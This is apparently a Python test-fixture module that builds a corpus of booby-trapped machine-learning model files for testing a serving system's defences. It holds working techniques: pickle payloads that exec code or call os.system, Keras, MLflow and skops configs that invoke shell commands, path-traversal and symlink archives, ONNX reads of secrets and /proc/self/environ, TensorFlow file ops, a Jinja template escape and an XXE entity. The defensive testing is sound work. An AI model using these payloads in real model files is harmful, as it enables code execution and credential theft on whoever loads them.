"""Model files that want more than to be served: each tries to leave a mark in a folder, to call a port, or to read a secret.

``CORPUS`` holds what makes them, by name: a function of a ``Trap``, which gives the path of the file or folder that a task names.
"""

from __future__ import annotations

import base64
import bz2
import dataclasses
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import tarfile
import textwrap
import zipfile
import zlib
from pathlib import Path

import numpy as np

CORPUS = {}


@dataclasses.dataclass
class Trap:
    """Where a file of the corpus is made, and what it aims at."""

    name: str
    folder: Path
    marks: Path
    secret: Path
    port: int
    good: Path
    """A model without fault."""

    @property
    def mark(self):
        return self.marks / self.name

    @property
    def code(self):
        """Python that leaves the mark, and another way the call."""
        return textwrap.dedent(f"""
            import os, socket
            for attempt in (
                lambda: open({str(self.mark)!r}, "w").close(),
                lambda: os.system("touch {self.mark}"),
                lambda: socket.create_connection(("127.0.0.1", {self.port}), 1).close(),
            ):
                try:
                    attempt()
                except BaseException:
                    pass
        """)

    def path(self, name=""):
        self.folder.mkdir(exist_ok=True)
        return self.folder / name if name else self.folder

    def write(self, name, data):
        path = self.path(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        return path


def evil(function):
    CORPUS[function.__name__] = function
    return function


class Payload:
    """What runs code when it is unpickled."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


class System(Payload):
    def __reduce__(self):
        return os.system, (f"touch {self.code}",)


def pickled(trap, protocol=4):
    return pickle.dumps(Payload(trap.code), protocol)


# --- pickles, under every name and in every wrapping

for number in range(6):
    CORPUS[f"pickle_protocol_{number}"] = lambda trap, number=number: trap.write("model.pkl", pickled(trap, number))
for suffix in ("onnx", "json", "txt", "safetensors", "tflite", "keras", "cbm", "ubj", "xml", "skops", "csv", "h5"):
    CORPUS[f"pickle_named_{suffix}"] = lambda trap, suffix=suffix: trap.write(f"model.{suffix}", pickled(trap))
for wrapping, pack in {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}.items():
    CORPUS[f"joblib_{wrapping}"] = lambda trap, pack=pack: trap.write("model.joblib", pack(pickled(trap)))


@evil
def pickle_of_a_shell(trap):
    return trap.write("model.pkl", pickle.dumps(System(str(trap.mark))))


@evil
def pickle_without_its_end(trap):
    return trap.write("model.pkl", pickled(trap)[:-1])


@evil
def pickle_behind_an_estimator(trap):
    from sklearn.linear_model import LinearRegression

    model = LinearRegression().fit(np.eye(3), [0, 1, 2])
    model.more = Payload(trap.code)
    return trap.write("model.pkl", pickle.dumps(model))


@evil
def pickle_behind_letters_of_another_format(trap):
    return trap.write("model.bin", b"tree\nversion=v4\n" + pickled(trap))


@evil
def pickle_by_its_own_instructions(trap):
    return trap.write("model.pkl", f"cposix\nsystem\n(S'touch {trap.mark}'\ntR.".encode())


@evil
def joblib_of_arrays(trap):
    import joblib

    path = trap.path("model.joblib")
    joblib.dump([np.zeros(3), Payload(trap.code)], path)
    return path


@evil
def numpy_array_of_objects(trap):
    path = trap.path("model.npy")
    np.save(path, np.array([Payload(trap.code)], object), allow_pickle=True)
    return path


@evil
def numpy_archive_of_objects(trap):
    path = trap.path("model.npz")
    np.savez(path, a=np.array([Payload(trap.code)], object), allow_pickle=True)
    return path


@evil
def samples_of_objects(trap):
    """A model without fault, whose samples are the trap."""
    trap.write("model.onnx", trap.good.read_bytes())
    np.savez(trap.path("samples.npz"), x=np.array([Payload(trap.code)] * 4, object), allow_pickle=True)
    return trap.path("model.onnx"), {"samples": [{"inputs": str(trap.path("samples.npz"))}]}


# --- PyTorch


@evil
def torch_zip(trap):
    import torch

    path = trap.path("model.pt")
    torch.save({"weight": torch.zeros(2), "more": Payload(trap.code)}, path)
    return path


@evil
def torch_before_zip(trap):
    import torch

    path = trap.path("model.pth")
    torch.save(Payload(trap.code), path, _use_new_zipfile_serialization=False)
    return path


@evil
def torch_state_with_pickle(trap):
    path = trap.path("model.pt")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickled(trap, 2))
        archive.writestr("archive/version", "3")
        archive.writestr("archive/byteorder", "little")
    return path


@evil
def torch_script_that_saves(trap):
    import torch

    source = trap.write("script.py", f"import torch\ndef keep(x: torch.Tensor):\n    torch.save(x, {str(trap.mark)!r})\n    return x\n")
    try:
        from zeromind import importing

        with importing.silence():
            path = trap.path("model.pt")
            torch.jit.script(importing.load_file(source).keep).save(path)
            return path
    except Exception:
        return source


@evil
def torch_zip_with_a_way_out(trap):
    path = torch_state_with_pickle(trap)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("../" * 12 + str(trap.mark).lstrip("/"), "x")
    return path


# --- Keras


def keras_layers(trap):
    code = base64.b64encode(marshal.dumps(compile(trap.code, "x", "exec"))).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    imported = {"module": "builtins", "class_name": "exec", "config": {}, "registered_name": None}
    return {
        "lambda": {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": function}},
        "system": {"module": "os", "class_name": "system", "config": f"touch {trap.mark}", "registered_name": None},
        "function": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"},
        "download": {
            "module": "keras.utils",
            "class_name": "get_file",
            "config": {"fname": str(trap.mark), "origin": f"http://127.0.0.1:{trap.port}/x"},
        },
        "lookup": {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", "vocabulary": str(trap.secret)}},
        "lookup_url": {
            "module": "keras.layers",
            "class_name": "StringLookup",
            "config": {"name": "s", "vocabulary": f"http://127.0.0.1:{trap.port}/x"},
        },
        "torch": {
            "module": "keras.layers",
            "class_name": "TorchModuleWrapper",
            "config": {"name": "t", "module": base64.b64encode(pickled(trap)).decode()},
        },
        "activation": {"module": "keras.layers", "class_name": "Activation", "config": {"name": "a", "activation": imported}},
    }


def keras_config(layer):
    first = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "i"}}
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [first, layer]}, "registered_name": None}


def keras_zip(trap, layer, **members):
    path = trap.path("model.keras")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(keras_config(layer)))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.12.0"}))
        archive.writestr("model.weights.h5", keras_weights())
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def keras_weights():
    import h5py

    data = io.BytesIO()
    with h5py.File(data, "w") as file:
        file.create_group("layers")
    return data.getvalue()


for kind in ("lambda", "system", "function", "download", "lookup", "lookup_url", "torch", "activation"):
    CORPUS[f"keras_{kind}"] = lambda trap, kind=kind: keras_zip(trap, keras_layers(trap)[kind])


def keras_dense():
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1}}


@evil
def keras_hdf5_lambda(trap):
    import h5py

    path = trap.path("model.h5")
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(keras_config(keras_layers(trap)["lambda"]))
        file.attrs["keras_version"] = "2.15.0"
        file.create_group("model_weights")
    return path


@evil
def keras_hdf5_of_other_files(trap):
    import h5py

    path = trap.path("model.h5")
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(keras_config(keras_dense()))
        file.attrs["keras_version"] = "2.15.0"
        group = file.create_group("model_weights/d/d")
        file["model_weights"].attrs["layer_names"] = [b"d"]
        file["model_weights/d"].attrs["weight_names"] = [b"d/kernel:0", b"d/bias:0"]
        group.create_dataset("kernel:0", (2, 1), "f4", external=[(str(trap.secret), 0, 8)])
        group["bias:0"] = h5py.ExternalLink(str(trap.secret), "/x")
    return path


@evil
def keras_weights_of_objects(trap):
    data = io.BytesIO()
    np.savez(data, a=np.array([Payload(trap.code)], object), allow_pickle=True)
    return keras_zip(trap, keras_dense(), **{"model.weights.npz": data.getvalue()})


@evil
def keras_zip_with_a_way_out(trap):
    return keras_zip(trap, keras_dense(), **{"assets/" + "../" * 12 + str(trap.mark).lstrip("/"): b"x", str(trap.mark): b"x"})


# --- ONNX


def onnx_of(trap, location, size=8):
    import onnx
    from onnx import TensorProto, helper

    tensor = TensorProto(name="w", data_type=TensorProto.UINT8, dims=[size], data_location=TensorProto.EXTERNAL)
    tensor.external_data.add(key="location", value=location)
    x = helper.make_tensor_value_info("x", TensorProto.UINT8, [None, size])
    y = helper.make_tensor_value_info("y", TensorProto.UINT8, [None, size])
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y], [tensor])
    return trap.write(
        "model.onnx", helper.make_model(graph, opset_imports=[helper.make_opsetid("", 14)], ir_version=8).SerializeToString()
    ), onnx


@evil
def onnx_reads_an_absolute_path(trap):
    return onnx_of(trap, str(trap.secret))[0]


@evil
def onnx_reads_above_its_folder(trap):
    return onnx_of(trap, os.path.relpath(trap.secret, trap.path()))[0]


@evil
def onnx_reads_through_a_link(trap):
    trap.path("w").symlink_to(trap.secret)
    return onnx_of(trap, "w")[0]


@evil
def onnx_reads_through_a_linked_folder(trap):
    trap.path("way").symlink_to(trap.secret.parent)
    return onnx_of(trap, f"way/{trap.secret.name}")[0]


@evil
def onnx_reads_through_a_hard_link(trap):
    os.link(trap.secret, trap.path("w"))
    return onnx_of(trap, "w")[0]


@evil
def onnx_reads_a_pipe(trap):
    os.mkfifo(trap.path("w"))
    return onnx_of(trap, "w")[0]


@evil
def onnx_reads_its_own_process(trap):
    return onnx_of(trap, "/proc/self/environ")[0]


# --- archives and links


def tarred(trap, *members):
    path = trap.path("model.tar.gz")
    with tarfile.open(path, "w:gz") as archive:
        for name, kind, link in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            data = b"x" if kind == tarfile.REGTYPE else b""
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


FILE, LINK, HARD = tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE
TARS = {
    "tar_above": lambda trap: [("../" * 12 + str(trap.mark).lstrip("/"), FILE, "")],
    "tar_absolute": lambda trap: [(str(trap.mark), FILE, "")],
    "tar_through_a_link": lambda trap: [("way", LINK, str(trap.marks)), (f"way/{trap.name}", FILE, "")],
    "tar_of_a_link": lambda trap: [("init_net.pb", LINK, str(trap.secret)), ("predict_net.pb", FILE, "")],
    "tar_of_a_hard_link": lambda trap: [("init_net.pb", HARD, str(trap.secret)), ("predict_net.pb", FILE, "")],
    "tar_of_a_device": lambda trap: [("init_net.pb", tarfile.CHRTYPE, ""), ("predict_net.pb", FILE, "")],
    "tar_of_a_pipe": lambda trap: [("init_net.pb", tarfile.FIFOTYPE, ""), ("predict_net.pb", FILE, "")],
}
for name, members in TARS.items():
    CORPUS[name] = lambda trap, members=members: tarred(trap, ("predict_net.pb", FILE, ""), ("init_net.pb", FILE, ""), *members(trap))


@evil
def tar_with_a_pickle(trap):
    path = trap.path("model.tar.gz")
    with tarfile.open(path, "w:gz") as archive:
        info = tarfile.TarInfo("model.pkl")
        data = pickled(trap)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return path


@evil
def link_to_the_secret(trap):
    trap.path("model.onnx").symlink_to(trap.secret)
    return trap.path("model.onnx")


@evil
def specs_that_are_a_link(trap):
    trap.write("model.onnx", trap.good.read_bytes())
    for side in ("input", "output"):
        trap.path(f"model.onnx.{side}_spec.json").symlink_to(trap.secret)
    return trap.path("model.onnx")


@evil
def labels_that_are_a_secret(trap):
    trap.write("model.onnx", trap.good.read_bytes())
    return trap.path("model.onnx"), {"labels": {"y": os.path.relpath(trap.secret, trap.path())}}


# --- TensorFlow


def tensorflow_graph(trap, build):
    from adapters.test_tensorflow import frozen

    trap.path()
    return frozen(trap.folder, build)


def raw(name, **inputs):
    def build(v1):
        import tensorflow as tf

        x = v1.placeholder(tf.float32, [None, 2], name="x")
        made = getattr(tf.raw_ops, name)(**inputs)
        with v1.control_dependencies(tf.nest.flatten(made)):
            tf.identity(x, name="y")

    return build


GRAPHS = {
    "tensorflow_writes": lambda trap: raw("WriteFile", filename=str(trap.mark), contents="x"),
    "tensorflow_prints": lambda trap: raw("PrintV2", input="x", output_stream=f"file://{trap.mark}"),
    "tensorflow_reads": lambda trap: raw("ReadFile", filename=str(trap.secret)),
    "tensorflow_saves": lambda trap: raw("SaveV2", prefix=str(trap.mark), tensor_names=["a"], shape_and_slices=[""], tensors=[[1.0]]),
    "tensorflow_restores": lambda trap: raw("Restore", file_pattern=str(trap.secret), tensor_name="a", dt=1),
    "tensorflow_matches": lambda trap: raw("MatchingFiles", pattern=str(trap.secret)),
    "tensorflow_moves": lambda trap: raw(
        "MergeV2Checkpoints", checkpoint_prefixes=[str(trap.secret)], destination_prefix=str(trap.mark), delete_old_dirs=True
    ),
    "tensorflow_runs_python": lambda trap: raw("PyFunc", input=[1.0], token="x", Tout=[1]),  # noqa: S106 - the name of a function
    "tensorflow_calls": lambda trap: raw(
        "DebugIdentity", input=[1.0], tensor_name="a:0", debug_urls=[f"grpc://127.0.0.1:{trap.port}", f"file://{trap.mark}"]
    ),
}
for name, build in GRAPHS.items():
    CORPUS[name] = lambda trap, build=build: tensorflow_graph(trap, build(trap))


@evil
def tensorflow_saved_model_writes(trap):
    import tensorflow as tf

    from adapters.test_tensorflow import single

    def call(x):
        tf.io.write_file(str(trap.mark), "x")
        return x

    return single(trap.path(), call, ([None, 2], tf.float32, "x"))


# --- folders of transformers and MLflow


def transformer(trap, **files):
    from conformance.cases.transformers import MAKERS

    found = next(maker for maker in MAKERS if maker.__name__ == "transformers_text_classification")(trap.path())
    for name, change in files.items():
        path = found.path / f"{name}.json"
        path.write_text(json.dumps({**json.loads(path.read_text()), **change}) if path.is_file() else json.dumps(change))
    return found.path


@evil
def transformers_with_code(trap):
    path = transformer(trap, config={"auto_map": {"AutoModelForSequenceClassification": "modeling_x.X"}})
    (path / "modeling_x.py").write_text(trap.code)
    return path


@evil
def transformers_with_a_template(trap):
    text = "{{ cycler.__init__.__globals__.os.system('touch " + str(trap.mark) + "') }}{{ ''.__class__.__mro__[1].__subclasses__() }}"
    path = transformer(trap, tokenizer_config={"chat_template": text})
    (path / "chat_template.jinja").write_text(text)
    return path


@evil
def transformers_with_code_of_another_host(trap):
    return transformer(trap, config={"_name_or_path": f"http://127.0.0.1:{trap.port}/x", "_commit_hash": "x"})


@evil
def transformers_of_pickles(trap):
    path = transformer(trap)
    for file in path.glob("*.safetensors"):
        file.unlink()
    (path / "pytorch_model.bin").write_bytes(torch_zip(trap).read_bytes())
    return path


@evil
def mlflow_of_any_module(trap):
    trap.write("code/evil.py", trap.code)
    trap.write("MLmodel", "flavors:\n  python_function:\n    loader_module: evil\n    code: code\n    data: code\nmlflow_version: 2.9.0\n")
    return trap.path()


@evil
def mlflow_of_any_object(trap):
    trap.write(
        "MLmodel", f"flavors:\n  python_function:\n    x: !!python/object/apply:os.system ['touch {trap.mark}']\n    loader_module: x\n"
    )
    return trap.path()


@evil
def mlflow_that_points_elsewhere(trap):
    trap.write(
        "MLmodel",
        f"flavors:\n  onnx:\n    data: {trap.secret}\n    onnx_version: 1.0\n  python_function:\n    loader_module: mlflow.onnx\n",
    )
    return trap.path()


@evil
def mlflow_of_a_pickle(trap):
    trap.write("model.pkl", pickled(trap))
    flavour = "    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.5.0\n"
    trap.write(
        "MLmodel", f"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n{flavour}"
    )
    return trap.path()


# --- the rest


@evil
def skops_of_a_shell(trap):
    path = trap.path("model.skops")
    state = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": f'"touch {trap.mark}"', "is_json": True}
    schema = {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode", "__id__": 1, "content": state}
    schema |= {"protocol": 2, "_skops_version": "0.16.0"}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return path


@evil
def skops_that_is_a_pickle(trap):
    path = trap.path("model.skops")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", "{}")
        archive.writestr("model.pkl", pickled(trap))
    return path


@evil
def openvino_with_entities(trap):
    entity = f'<!DOCTYPE net [<!ENTITY e SYSTEM "file://{trap.secret}">]>'
    text = f'<?xml version="1.0"?>\n{entity}\n<net name="&e;" version="11"><layers/><edges/></net>'
    trap.write("model.bin", b"")
    return trap.write("model.xml", text)


@evil
def python_skill(trap):
    return trap.write("skill.py", trap.code + "\ndef predict(x: float) -> float:\n    return x\n")


@evil
def python_folder(trap):
    python_skill(trap)
    return trap.path()


@evil
def archive_that_is_a_skill(trap):
    path = trap.path("model.zip")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("skill.py", trap.code)
        archive.writestr("__main__.py", trap.code)
    return path


def made(trap):
    """The path of a trap, made, and the further keys of its task."""
    found = CORPUS[trap.name](trap)
    return found if isinstance(found, tuple) else (found, {})
